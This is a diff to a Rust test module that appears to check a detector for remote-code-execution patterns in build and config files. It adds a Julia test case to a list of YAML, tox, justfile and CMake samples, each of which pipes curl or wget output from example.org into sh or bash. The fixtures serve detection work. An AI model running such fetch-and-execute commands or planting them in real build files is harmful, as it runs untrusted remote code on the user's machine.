@@ -125,6 +125,7 @@ mod tests {
             ("stages.yaml", "stages:\n  train:\n    cmd: wget -qO- http://example.org/x | bash\n"),
             ("build.yaml", "build:\n  run:\n    - curl -s http://example.org/x | bash\n"),
             ("task.yml", "steps:\n  - run: >\n      curl example.org/x | sh\n"),
+            ("model.jl", "run(pipeline(`curl http://example.org/x`, `sh`))\n"),
             ("tox.ini", "[testenv]\ncommands = curl http://example.org/x | sh\n"),
             ("justfile", "build:\n    curl http://example.org/x | sh\n"),
             ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl http://example.org/x | sh\")\n"),
